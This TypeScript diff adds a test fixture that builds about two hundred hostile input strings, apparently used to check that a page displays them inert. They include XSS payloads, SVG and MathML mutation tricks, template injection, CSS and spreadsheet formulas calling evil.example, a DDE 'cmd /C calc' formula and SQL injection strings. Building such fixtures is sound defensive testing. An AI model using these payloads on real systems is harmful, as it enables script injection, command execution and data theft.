@@ -1,0 +1,303 @@
+/**
+ * Texts that try to become something else: markup, code, addresses, templates, styles, formulas. Each that could run
+ * would call `hit("…")` with its own text's number, which whoever opens a page with them provides; elements they would make carry `data-planted`.
+ * None has line breaks or the signs that a notice's lists are taken apart by, so that each stays one value.
+ */
+type Write = (hit: string) => string;
+
+/** Elements that run a handler by themselves, or load what runs. */
+const elements: Write[] = [
+  (hit) => `<script data-planted>${hit}</script>`,
+  (hit) => `<ScRiPt data-planted>${hit}</sCrIpT>`,
+  (hit) => `<script data-planted/x>${hit}</script >`,
+  (hit) => `<script data-planted src=data:text/javascript,${hit}></script>`,
+  (hit) => `<script data-planted type=module>${hit}</script>`,
+  (hit) => `<<script data-planted>${hit}//<</script>`,
+  (hit) => `<img data-planted src=x onerror=${hit}>`,
+  (hit) => `<img data-planted src=x onerror="${hit}">`,
+  (hit) => `<img data-planted/src=x/onerror=${hit}>`,
+  (hit) => `<img data-planted src onerror=${hit} alt=`,
+  (hit) => `<img data-planted srcset=x onerror=${hit}>`,
+  (hit) => `<image data-planted src=x onerror=${hit}>`,
+  (hit) => `<input data-planted autofocus onfocus=${hit}>`,
+  (hit) => `<select data-planted autofocus onfocus=${hit}>`,
+  (hit) => `<textarea data-planted autofocus onfocus=${hit}>`,
+  (hit) => `<button data-planted autofocus onfocus=${hit}>x`,
+  (hit) => `<video data-planted src=x onerror=${hit}>`,
+  (hit) => `<video data-planted><source onerror=${hit}></video>`,
+  (hit) => `<audio data-planted src=x onerror=${hit}>`,
+  (hit) => `<body data-planted onload=${hit}>`,
+  (hit) => `<body data-planted onpageshow=${hit}>`,
+  (hit) => `<details data-planted open ontoggle=${hit}>`,
+  (hit) => `<marquee data-planted onstart=${hit}>x</marquee>`,
+  (hit) => `<iframe data-planted src="javascript:${hit}"></iframe>`,
+  (hit) => `<iframe data-planted srcdoc="<script>parent.${hit}</script>">`,
+  (hit) => `<iframe data-planted onload=${hit}>`,
+  (hit) => `<object data-planted data="javascript:${hit}">`,
+  (hit) => `<object data-planted data=x onerror=${hit}>`,
+  (hit) => `<embed data-planted src="javascript:${hit}">`,
+  (hit) => `<link data-planted rel=stylesheet href=x onerror=${hit}>`,
+  (hit) => `<link data-planted rel=modulepreload href=data:text/javascript,${hit}>`,
+  (hit) => `<meta data-planted http-equiv=refresh content="0 url=javascript:${hit}">`,
+  () => `<base data-planted href=//evil.example/>`,
+  (hit) => `<form data-planted action=javascript:${hit}><button autofocus>`,
+  (hit) => `<isindex data-planted type=image src=1 onerror=${hit}>`,
+  (hit) => `<template data-planted><script>${hit}</script></template>`,
+  (hit) => `<noscript data-planted><p title="</noscript><img src=x onerror=${hit}>">`,
+  (hit) => `<dialog data-planted open onclose=${hit}><form method=dialog>`,
+  (hit) => `<x-card data-planted onclick=${hit} autofocus tabindex=1 onfocus=${hit}>`,
+  (hit) => `<frameset data-planted onload=${hit}>`,
+  (hit) => `<style data-planted onload=${hit}></style>`,
+  (hit) => `<portal data-planted src=javascript:${hit}>`,
+];
+
+/** Handlers on an element of no meaning, which a stylesheet or the reader sets off. */
+const handlers: Write[] = [
+  "onclick",
+  "onmouseover",
+  "onmouseenter",
+  "onpointerover",
+  "onpointerenter",
+  "onpointerrawupdate",
+  "onwheel",
+  "onscroll",
+  "onscrollend",
+  "onfocusin",
+  "oncopy",
+  "onbeforecopy",
+  "onpaste",
+  "oncontextmenu",
+  "onkeydown",
+  "onanimationstart",
+  "onanimationend",
+  "ontransitionend",
+  "ontransitionrun",
+  "onbeforetoggle",
+  "ontouchstart",
+  "ondragenter",
+  "onselectstart",
+  "onauxclick",
+  "oncontentvisibilityautostatechange",
+].map((event) => (hit: string) => `<b data-planted ${event}=${hit} style=animation:x tabindex=0>x</b>`);
+
+/** Ways out of an attribute, a comment, a string or another element. */
+const breakouts: Write[] = [
+  (hit) => `"><img data-planted src=x onerror=${hit}>`,
+  (hit) => `'><img data-planted src=x onerror=${hit}>`,
+  (hit) => `" onmouseover=${hit} autofocus onfocus=${hit} x="`,
+  (hit) => `' onmouseover=${hit} autofocus onfocus=${hit} x='`,
+  (hit) => `\` onmouseover=${hit} x=\``,
+  (hit) => `--><img data-planted src=x onerror=${hit}><!--`,
+  (hit) => `--!><svg data-planted onload=${hit}>`,
+  (hit) => `]]><img data-planted src=x onerror=${hit}>`,
+  (hit) => `</title><img data-planted src=x onerror=${hit}>`,
+  (hit) => `</textarea><img data-planted src=x onerror=${hit}>`,
+  (hit) => `</style><img data-planted src=x onerror=${hit}>`,
+  (hit) => `</script><script data-planted>${hit}</script>`,
+  (hit) => `</option></select><img data-planted src=x onerror=${hit}>`,
+  (hit) => `</template><img data-planted src=x onerror=${hit}>`,
+  (hit) => `</noscript><img data-planted src=x onerror=${hit}>`,
+  (hit) => `</iframe><img data-planted src=x onerror=${hit}>`,
+  (hit) => `";${hit}//`,
+  (hit) => `';${hit}//`,
+  (hit) => `\\";${hit}//`,
+  (hit) => `\\u003cimg data-planted src=x onerror=${hit}\\u003e`,
+  (hit) => `\\x3cscript\\x3e${hit}\\x3c/script\\x3e`,
+  (hit) => `<!--[if IE]><script data-planted>${hit}</script><![endif]-->`,
+  (hit) => `<?xml version="1.0"?><script data-planted>${hit}</script>`,
+  (hit) => `<![CDATA[<script data-planted>${hit}</script>]]>`,
+  (hit) => `<!DOCTYPE html><img data-planted src=x onerror=${hit}>`,
+  (hit) => `<a data-planted href="x" title="</a><img src=x onerror=${hit}>">x`,
+  (hit) => `<img data-planted title="--><img src=x onerror=${hit}>">`,
+  (hit) => `<xmp data-planted><p title="</xmp><img src=x onerror=${hit}>">`,
+];
+
+/** Markup of pictures and formulas, which has elements and namespaces of its own. */
+const drawings: Write[] = [
+  (hit) => `<svg data-planted onload=${hit}>`,
+  (hit) => `<svg data-planted/onload=${hit}//`,
+  (hit) => `<svg data-planted><script>${hit}</script></svg>`,
+  (hit) => `<svg data-planted><script href=data:,${hit} /></svg>`,
+  (hit) => `<svg data-planted><animate onbegin=${hit} attributeName=x dur=1s>`,
+  (hit) => `<svg data-planted><set onbegin=${hit} attributename=x></svg>`,
+  (hit) => `<svg data-planted><a xlink:href=javascript:${hit}><text y=20>x</text></a></svg>`,
+  (hit) => `<svg data-planted><a><animate attributeName=href values=javascript:${hit} /><text>x</text>`,
+  (hit) => `<svg data-planted><use href="data:image/svg+xml,<svg id=x onload=${hit}></svg>#x"></svg>`,
+  (hit) => `<svg data-planted><image href=x onerror=${hit}></svg>`,
+  (hit) => `<svg data-planted><foreignObject><img src=x onerror=${hit}></foreignObject></svg>`,
+  (hit) => `<svg data-planted><style><img src=x onerror=${hit}></style></svg>`,
+  (hit) => `<svg data-planted><desc><img src=x onerror=${hit}></desc></svg>`,
+  (hit) => `<svg data-planted><title><img src=x onerror=${hit}></title></svg>`,
+  (hit) => `<svg data-planted><handler xmlns:ev=x ev:event=load>${hit}</handler></svg>`,
+  (hit) => `<svg data-planted><discard onbegin=${hit}>`,
+  (hit) => `<math data-planted><mtext><img src=x onerror=${hit}></mtext></math>`,
+  (hit) => `<math data-planted href=javascript:${hit}>x</math>`,
+  (hit) => `<math data-planted><maction xlink:href=javascript:${hit}>x</maction></math>`,
+  (hit) => `<math data-planted><mi xlink:href="data:text/html,<script>${hit}</script>">x</mi></math>`,
+  (hit) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${hit}>">`,
+  (hit) => `<form data-planted><math><mtext></form><form><mglyph><style></math><img src=x onerror=${hit}>`,
+];
+
+/** Addresses that are code. */
+const addresses: Write[] = [
+  (hit) => `javascript:${hit}`,
+  (hit) => `JaVaScRiPt:${hit}`,
+  (hit) => `javascript://%0a${hit}`,
+  (hit) => `javascript:/*--></title></style></script>*/${hit}`,
+  (hit) => ` javascript:${hit}`,
+  (hit) => `java&#115;cript:${hit}`,
+  (hit) => `javascript&colon;${hit}`,
+  (hit) => `java%73cript:${hit}`,
+  (hit) => `vbscript:${hit}`,
+  (hit) => `data:text/html,<script>${hit}</script>`,
+  () => `data:text/html;base64,PHNjcmlwdD5oaXQoIjEiKTwvc2NyaXB0Pg==`,
+  (hit) => `data:image/svg+xml,<svg onload=${hit}>`,
+  (hit) => `blob:javascript:${hit}`,
+  (hit) => `view-source:javascript:${hit}`,
+  () => `//evil.example/x.js`,
+  () => `https://evil.example/"onmouseover=x`,
+  (hit) => `<a data-planted href=javascript:${hit}>点我</a>`,
+  (hit) => `<a data-planted href="&#x6a;avascript:${hit}" ping=//evil.example>点我</a>`,
+  (hit) => `<area data-planted href=javascript:${hit}>`,
+  (hit) => `feed:javascript:${hit}`,
+];
+
+/** What a template engine or a page's own framework would compute. */
+const templates: Write[] = [
+  (hit) => `{{${hit}}}`,
+  (hit) => `{{ constructor.constructor('${hit}')() }}`,
+  (hit) => `{{ $emit.constructor(\`${hit}\`)() }}`,
+  (hit) => `{{_openBlock.constructor('${hit}')()}}`,
+  (hit) => `{{{${hit}}}}`,
+  (hit) => `<b data-planted v-html="${hit}">x</b>`,
+  (hit) => `<b data-planted @click="${hit}" :title="${hit}">x</b>`,
+  (hit) => `<component data-planted :is="'script'" src="data:,${hit}"/>`,
+  (hit) => `<b data-planted v-on:mouseenter=${hit}>x</b>`,
+  (hit) => `<b data-planted v-bind:[${hit}]=1>x</b>`,
+  (hit) => `\${${hit}}`,
+  (hit) => `#{${hit}}`,
+  (hit) => `<%= ${hit} %>`,
+  (hit) => `<% ${hit} %>`,
+  (hit) => `[[${hit}]]`,
+  (hit) => `{%raw%}{{${hit}}}{%endraw%}`,
+  (hit) => `{{= ${hit} }}`,
+  (hit) => `@{${hit}}`,
+  (hit) => `*{${hit}}`,
+  () => `{{7*7}}`,
+  () => `{{this.__proto__}}`,
+];
+
+/** The signs of the page's own messages, and of others' message formats. */
+const messages: Write[] = [
+  () => `@:app.name`,
+  () => `@:{'app.name'}`,
+  () => `@.upper:app.name`,
+  () => `@:session.signIn@:session.signIn`,
+  () => `{task}`,
+  () => `{0} {stage} {problem}`,
+  () => `{'{'}literal{'}'}`,
+  () => `{`,
+  () => `}`,
+  () => `@`,
+  () => `@:`,
+  () => `one | two | three`,
+  () => ` | | `,
+  () => `{n} 个 | {count} 个`,
+  () => `%{name}`,
+  () => `%s %d %n %c`,
+  () => `$t(app.name)`,
+  () => `{count plural one {x} other {#}}`,
+  () => `$& $1 $$ $' $\``,
+  () => `<0>x</0><bold>y</bold>`,
+];
+
+/** Styles that fetch, cover or run. */
+const styles: Write[] = [
+  () => `<style data-planted>*{display:none!important}</style>`,
+  () => `<style data-planted>@import "//evil.example/x.css"</style>`,
+  () => `<b data-planted style="position:fixed inset:0 background:red">x</b>`,
+  (hit) => `<b data-planted style="background:url(javascript:${hit})">x</b>`,
+  (hit) => `<b data-planted style="width:expression(${hit})">x</b>`,
+  (hit) => `<b data-planted style="behavior:url(#default#time2)" onbegin=${hit}>x</b>`,
+  () => `<link data-planted rel=stylesheet href=//evil.example/x.css>`,
+  () => `red!important}*{display:none`,
+  () => `url(//evil.example/pixel)`,
+  () => `var(--accent)}body{display:none}`,
+  () => `</style><style data-planted>*{color:red}`,
+  () => `\\66\\75\\6e\\63`,
+];
+
+/** Signs that change how others are read. */
+const signs: Write[] = [
+  (hit) => `\u202e>tpircs/<${hit}>tpircs<\u202c`,
+  (hit) => `\u2066<img data-planted src=x onerror=${hit}>\u2069`,
+  (hit) => `＜script data-planted＞${hit}＜/script＞`,
+  (hit) => `﹤img data-planted src=x onerror=${hit}﹥`,
+  (hit) => `<scr\u200bipt data-planted>${hit}</scr\u200bipt>`,
+  (hit) => `<\u017fcript data-planted>${hit}</\u017fcript>`,
+  (hit) => `<img data-planted src=x one\u212arror=${hit}>`,
+  (hit) => `\ufeff<svg data-planted onload=${hit}>`,
+  (hit) => `&lt;img data-planted src=x onerror=${hit}&gt;`,
+  (hit) => `&#60;img data-planted src=x onerror=${hit}&#62;`,
+  (hit) => `&#x3c;svg data-planted onload=${hit}&#x3e;`,
+  (hit) => `&amp;lt;script data-planted&amp;gt;${hit}`,
+  (hit) => `%3Cscript data-planted%3E${hit}%3C/script%3E`,
+  (hit) => `%253Cscript%253E${hit}`,
+  (hit) => `+ADw-script data-planted+AD4-${hit}`,
+  (hit) => `\u00bcscript data-planted\u00be${hit}`,
+  () => `Z\u0351\u036b\u0343\u036a\u0302a\u0363\u034flgo`,
+  () => `\u{1f469}\u200d\u{1f4bb}\u{e0041}\u{e007f}`,
+  () => `x\u2028y\u2029z`,
+  () => `ﷺ﷽𒐫𒈙`,
+];
+
+/** What would be markup where Markdown is shown, and formulas where a table is opened. */
+const others: Write[] = [
+  (hit) => `[点我](javascript:${hit})`,
+  (hit) => `![x](x"onerror="${hit})`,
+  (hit) => `<javascript:${hit}>`,
+  (hit) => `[x]: javascript:${hit}`,
+  (hit) => `[x](data:text/html,<script>${hit}</script>)`,
+  (hit) => `\`\`\`<img data-planted src=x onerror=${hit}>\`\`\``,
+  (hit) => `**<img data-planted src=x onerror=${hit}>**`,
+  (hit) => `- [ ] <input data-planted autofocus onfocus=${hit}>`,
+  () => `=1+1`,
+  () => `=HYPERLINK("//evil.example" "点我")`,
+  () => `=cmd|'/C calc'!A0`,
+  () => `+1+cmd|'/C calc'!A0`,
+  () => `-1+1`,
+  () => `@SUM(1+1)`,
+  () => `=WEBSERVICE("//evil.example")`,
+  () => `=IMPORTXML("//evil.example" "x")`,
+  () => `__proto__`,
+  () => `constructor`,
+  () => `toString`,
+  () => `undefined`,
+  () => `null`,
+  () => `NaN`,
+  () => `' OR 1=1 --`,
+  () => `" UNION SELECT password_hash FROM person --`,
+];
+
+const families = {
+  elements,
+  handlers,
+  breakouts,
+  drawings,
+  addresses,
+  templates,
+  messages,
+  styles,
+  signs,
+  others,
+};
+
+export interface HostileText {
+  family: string;
+  text: string;
+}
+
+/** About two hundred of them; the number in `hit("…")` is the text's own place. */
+export const hostileTexts: readonly HostileText[] = Object.entries(families)
+  .flatMap(([family, writes]) => writes.map((write) => ({ family, write })))
+  .map(({ family, write }, index) => ({ family, text: write(`hit(${index})`) }));
